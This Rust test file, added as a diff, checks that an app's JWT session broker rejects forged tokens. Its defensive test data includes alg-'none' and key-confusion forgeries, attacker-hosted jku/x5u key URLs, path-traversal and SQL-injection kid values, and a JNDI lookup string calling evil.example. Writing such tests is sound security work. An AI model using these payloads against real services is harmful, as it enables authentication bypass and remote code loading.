@@ -1,0 +1,297 @@
+//! What is not a session of this app's users gets nothing, and Courier does not hear of it.
+
+use std::time::Duration;
+
+use base64::Engine;
+use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+use serde_json::{Value, json};
+
+use crate::law::FRONTEND;
+use crate::sessions::{broker_of, call, is_unauthorized, settings};
+use crate::support::broker::{Broker, Setup};
+use crate::support::http::Ask;
+use crate::support::issuer::{ISSUER, KeyHost, RSA, Signer, at, good_claims, header};
+
+const ALICE: &str = "alice";
+
+fn part(text: impl AsRef<[u8]>) -> String {
+    URL_SAFE_NO_PAD.encode(text)
+}
+
+/// The header with one field more, or another.
+fn with(signer: &Signer, field: &str, value: Value) -> Value {
+    let mut header = header(signer, "k");
+    header[field] = value;
+    header
+}
+
+fn claiming(claim: &str, value: Value) -> Value {
+    let mut claims = good_claims(ALICE);
+    claims[claim] = value;
+    claims
+}
+
+fn without(claim: &str) -> Value {
+    let mut claims = good_claims(ALICE);
+    claims.as_object_mut().expect("an object").remove(claim);
+    claims
+}
+
+/// Each is refused, and then a good one is not: it was not for another reason.
+async fn all_are_unauthorized(broker: &Broker, attacks: &[(String, String)], good: &str) {
+    for (name, token) in attacks {
+        let answer = broker.ask(&call(token)).await;
+        assert_eq!(answer.status, 401, "{name}: {answer:?}");
+        is_unauthorized(&answer);
+        assert_eq!(broker.courier.call_count(), 0, "{name} made a call to Courier");
+    }
+    assert_eq!(broker.ask(&call(good)).await.status, 200);
+}
+
+/// What can be tried against any key.
+fn attacks(signer: &Signer) -> Vec<(String, String)> {
+    let good = signer.session("k", ALICE);
+    let [head, payload, signature] = good.split('.').collect::<Vec<_>>().try_into().expect("three parts");
+    let bobs = part(good_claims("bob").to_string());
+    let mut attacks = Vec::new();
+    let mut add = |name: &str, token: String| attacks.push((name.to_owned(), token));
+
+    for none in ["none", "None", "NONE", "nOnE", "none ", "", "null", "hs256", "RS256 "] {
+        let header = part(json!({"alg": none, "typ": "JWT", "kid": "k"}).to_string());
+        add(&format!("alg {none:?}, no signature"), format!("{header}.{payload}."));
+        add(&format!("alg {none:?}"), format!("{header}.{payload}.{signature}"));
+        add(&format!("alg {none:?}, signed"), signer.jwt(&with(signer, "alg", json!(none)), &good_claims(ALICE)));
+    }
+    for alg in [json!(null), json!(5), json!(["none"]), json!({"alg": "none"})] {
+        add(&format!("alg {alg}"), signer.jwt(&with(signer, "alg", alg), &good_claims(ALICE)));
+    }
+    add("no alg", signer.jwt(&json!({"typ": "JWT", "kid": "k"}), &good_claims(ALICE)));
+    let twice = format!(r#"{{"alg":"{0}","kid":"k","alg":"{0}"}}"#, signer.algorithm());
+    add("alg twice", signer.signed(&twice, &good_claims(ALICE).to_string()));
+
+    // The signature is of something else, or broken.
+    add("another's payload", format!("{head}.{bobs}.{signature}"));
+    add("another's header", format!("{}.{payload}.{signature}", part(with(signer, "x", json!(1)).to_string())));
+    add("a short signature", format!("{head}.{payload}.{}", &signature[..signature.len() - 4]));
+    add("half a signature", format!("{head}.{payload}.{}", &signature[..signature.len() / 2]));
+    add("no signature", format!("{head}.{payload}."));
+    add("a long signature", format!("{head}.{payload}.{signature}AAAA"));
+    add("padding", format!("{head}.{payload}.{signature}=="));
+    add("plain base64", format!("{head}.{payload}.{}", STANDARD.encode([0xff; 64])));
+    for zeros in [32, 64, 96, 256] {
+        add("a signature of zeros", format!("{head}.{payload}.{}", part(vec![0; zeros])));
+    }
+    let zero_in_der = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];
+    add("zeros in DER", format!("{head}.{payload}.{}", part(zero_in_der)));
+    add(
+        "a wrong key",
+        match signer {
+            Signer::Hmac(_) => Signer::Hmac(vec![7; 32]).session("k", ALICE),
+            Signer::Ed25519(_) => Signer::ed25519().session("k", ALICE),
+            _ => Signer::p256().session("k", ALICE),
+        },
+    );
+
+    // Extensions that would change what the rest means, and keys that the token brings along.
+    add("crit", signer.jwt(&with(signer, "crit", json!(["exp"])), &good_claims(ALICE)));
+    add("crit that is unknown", signer.jwt(&with(signer, "crit", json!(["x"])), &good_claims(ALICE)));
+    add("an empty crit", signer.jwt(&with(signer, "crit", json!([])), &good_claims(ALICE)));
+    add("a null for crit", signer.jwt(&with(signer, "crit", json!(null)), &good_claims(ALICE)));
+    add("b64", signer.jwt(&with(signer, "b64", json!(false)), &good_claims(ALICE)));
+    add("zip", signer.jwt(&with(signer, "zip", json!("DEF")), &good_claims(ALICE)));
+    add("cty", signer.jwt(&with(signer, "cty", json!("JWT")), &good_claims(ALICE)));
+    add("typ", signer.jwt(&with(signer, "typ", json!("logout+jwt")), &good_claims(ALICE)));
+    add("a proof", signer.jwt(&with(signer, "typ", json!("dpop+jwt")), &good_claims(ALICE)));
+    let evil = Signer::p256();
+    for (field, value) in [
+        ("jwk", evil.jwk("k")),
+        ("jku", json!("https://evil.example/jwks.json")),
+        ("x5u", json!("https://evil.example/cert.pem")),
+        ("x5c", json!([STANDARD.encode(evil.der())])),
+    ] {
+        add(field, evil.jwt(&with(&evil, field, value.clone()), &good_claims(ALICE)));
+        add(field, evil.jwt(&with(signer, field, value), &good_claims(ALICE)));
+    }
+    add("a long kid", signer.jwt(&with(signer, "kid", json!("k".repeat(257))), &good_claims(ALICE)));
+    add("a kid that is no text", signer.jwt(&with(signer, "kid", json!(["k"])), &good_claims(ALICE)));
+
+    // A JWT, but another's, another time's or nobody's.
+    for (claim, values) in [
+        ("iss", vec![json!("https://evil.example/"), json!(ISSUER.trim_end_matches('/')), json!([ISSUER]), json!("")]),
+        (
+            "aud",
+            vec![
+                json!("other"),
+                json!(["other"]),
+                json!([]),
+                json!(["my-app", 5]),
+                json!({"my-app": 1}),
+                json!("MY-APP"),
+            ],
+        ),
+        (
+            "exp",
+            vec![json!(at(-60)), json!(0), json!(-1), json!(at(60).to_string()), json!(1e13), json!(1e300), json!([])],
+        ),
+        ("nbf", vec![json!(at(120)), json!("soon"), json!(-5), json!(1e13), json!(true), json!(null)]),
+        ("iat", vec![json!(at(120)), json!("now"), json!(-1)]),
+        (
+            "sub",
+            vec![
+                json!(""),
+                json!(["alice"]),
+                json!({"id": "alice"}),
+                json!(null),
+                json!(true),
+                json!(1.5),
+                json!(" alice"),
+                json!("bob user_id:alice"),
+                json!("bob\tuser_id:alice"),
+                json!("bob\u{a0}user_id:alice"),
+                json!("alice\0"),
+                json!("alice\n"),
+                json!("\u{202e}ecila"),
+                json!("ali\u{200b}ce"),
+                json!("a".repeat(257)),
+            ],
+        ),
+    ] {
+        for value in values {
+            let name = format!("{claim} {value:.40}");
+            add(&name, signer.jwt(&header(signer, "k"), &claiming(claim, value)));
+        }
+    }
+    for claim in ["iss", "aud", "exp", "sub"] {
+        add(&format!("no {claim}"), signer.jwt(&header(signer, "k"), &without(claim)));
+    }
+    let good_text = good_claims(ALICE).to_string();
+    for more in [r#""sub":"bob""#, r#""exp":9999999999"#, r#""s\u0075b":"bob""#, r#""x":1,"x":1"#] {
+        let claims = format!("{},{more}}}", good_text.trim_end_matches('}'));
+        add(&format!("twice: {more}"), signer.signed(&header(signer, "k").to_string(), &claims));
+    }
+    let (header, array) = (header(signer, "k").to_string(), format!("[{good_text}]"));
+    for claims in ["", "null", "[]", "5", "{", "{} {}", array.as_str(), &good, &"[".repeat(3000)] {
+        add("no object", signer.signed(&header, claims));
+    }
+    add("1e999", signer.signed(&header, &good_text.replace("\"exp\":", "\"exp\":1e999,\"x\":")));
+    add("NaN", signer.signed(&header, &good_text.replace("\"exp\":", "\"exp\":NaN,\"x\":")));
+    for header in ["", "null", "[]", r#"["HS256"]"#, "{", "\u{feff}{}"] {
+        add("no header", signer.signed(header, &good_text));
+    }
+
+    // No JWT at all, though it looks like one.
+    add("a huge one", signer.jwt(&with(signer, "x", json!(1)), &claiming("x", json!("x".repeat(8000)))));
+    for shape in ["..", "a.b.c", "...", "a..c", "é.é.é", "%.%.%"] {
+        add(shape, shape.to_owned());
+    }
+    add("a dot too many", format!("{good}."));
+    add("encrypted", format!("{good}.{signature}.{signature}"));
+    add("a space in it", good.replacen('.', ". ", 1));
+    attacks
+}
+
+#[tokio::test]
+async fn a_secrets_sessions_can_not_be_forged() {
+    let signer = Signer::Hmac(b"a secret of the app with more than 32 bytes".to_vec());
+    let broker = broker_of(&signer, |_| {}).await;
+    all_are_unauthorized(&broker, &attacks(&signer), &signer.session("k", ALICE)).await;
+}
+
+#[tokio::test]
+async fn a_public_key_is_nobodys_secret() {
+    for signer in [&*RSA, &Signer::p256(), &Signer::ed25519()] {
+        let broker = broker_of(signer, |_| {}).await;
+        let (pem, der) = (signer.pem(), signer.der());
+        let mut all = attacks(signer);
+        for secret in [pem.as_bytes(), pem.trim().as_bytes(), &der, &der[der.len() - 32..], b"", &[0; 32]] {
+            // An empty secret too.
+            let forged = Signer::Hmac(secret.to_vec());
+            all.push(("signed with what is public".to_owned(), forged.session("k", ALICE)));
+            for alg in ["HS384", "HS512", signer.algorithm()] {
+                all.push((alg.to_owned(), forged.jwt(&json!({"alg": alg, "kid": "k"}), &good_claims(ALICE))));
+            }
+        }
+        all_are_unauthorized(&broker, &all, &signer.session("k", ALICE)).await;
+    }
+}
+
+#[tokio::test]
+async fn published_keys_count_by_their_names_alone() {
+    let (signer, other) = (Signer::p256(), Signer::ed25519());
+    let secret = Signer::Hmac(b"a secret that somebody has published".to_vec());
+    let mut encryption = other.jwk("encryption");
+    encryption["use"] = json!("enc");
+    let mut elsewhere = other.jwk("another-algorithm");
+    elsewhere["alg"] = json!("ES256");
+    let mut nameless = other.jwk("x");
+    nameless.as_object_mut().expect("an object").remove("kid");
+    let keys = [encryption, elsewhere, nameless, secret.jwk("secret"), json!(5), json!({}), signer.jwk("k")];
+    let host = KeyHost::start(&keys).await;
+    let mut sessions = settings();
+    sessions.jwks_url = Some(host.url());
+    let broker = Setup::new().settings(|raw| raw.sessions = Some(sessions)).start().await;
+    // The first fetch is waited for.
+    let mut all = attacks(&signer);
+    for kid in [
+        "../../etc/passwd",
+        "/dev/null",
+        "k' OR '1'='1",
+        "k; DROP TABLE keys",
+        "",
+        " k",
+        "K",
+        "k\0",
+        "https://evil.example/k",
+        "${jndi:ldap://evil.example}",
+    ] {
+        all.push((format!("kid {kid:?}"), signer.session(kid, ALICE)));
+    }
+    all.push(("no kid".to_owned(), signer.jwt(&json!({"alg": "ES256"}), &good_claims(ALICE))));
+    all.push(("a null for kid".to_owned(), signer.jwt(&json!({"alg": "ES256", "kid": null}), &good_claims(ALICE))));
+    for kid in ["encryption", "another-algorithm", "x", "k"] {
+        all.push((format!("another's key as {kid}"), other.session(kid, ALICE)));
+    }
+    all.push(("a published secret".to_owned(), secret.session("secret", ALICE)));
+    all.push(("the key's bytes as a secret".to_owned(), Signer::Hmac(signer.der()).session("k", ALICE)));
+    all_are_unauthorized(&broker, &all, &signer.session("k", ALICE)).await;
+    assert!(host.asked() <= 2, "{}", host.asked());
+}
+
+#[tokio::test]
+async fn algorithms_that_are_not_listed_do_not_count() {
+    let signer = &*RSA;
+    let broker = broker_of(signer, |sessions| sessions.algorithms = Some(vec!["PS256".to_owned()])).await;
+    is_unauthorized(&broker.ask(&call(&signer.session("k", ALICE))).await);
+    assert_eq!(broker.courier.call_count(), 0);
+}
+
+#[tokio::test]
+async fn a_session_counts_once_in_the_headers() {
+    let signer = Signer::ed25519();
+    let broker = broker_of(&signer, |_| {}).await;
+    let session = signer.session("k", ALICE);
+    for ask in [
+        call(&session).header("Authorization", format!("Bearer {session}")),
+        call(&session).header("Authorization", "Bearer other"),
+        call(&session).with("Authorization", &session),
+        call(&session).with("Authorization", format!("Basic {session}")),
+        call(&session).with("Authorization", format!("Bearer {session}, Bearer {session}")),
+        call(&session).without("Authorization").header("X-Session", &session),
+        Ask::get(&format!("{FRONTEND}?access_token={session}")).without("Authorization"),
+    ] {
+        is_unauthorized(&broker.ask(&ask).await);
+    }
+    assert_eq!(broker.courier.call_count(), 0);
+}
+
+#[tokio::test]
+async fn the_leeway_is_what_the_settings_say() {
+    let signer = Signer::ed25519();
+    let broker = broker_of(&signer, |sessions| sessions.leeway.0 = Duration::ZERO).await;
+    let session = |claims: Value| call(&signer.jwt(&header(&signer, "k"), &claims));
+    is_unauthorized(&broker.ask(&session(claiming("exp", json!(at(-2))))).await);
+    is_unauthorized(&broker.ask(&session(claiming("nbf", json!(at(10))))).await);
+    assert_eq!(broker.courier.call_count(), 0);
+    let broker = broker_of(&signer, |sessions| sessions.leeway.0 = Duration::from_secs(300)).await;
+    assert_eq!(broker.ask(&session(claiming("exp", json!(at(-200))))).await.status, 200);
+}
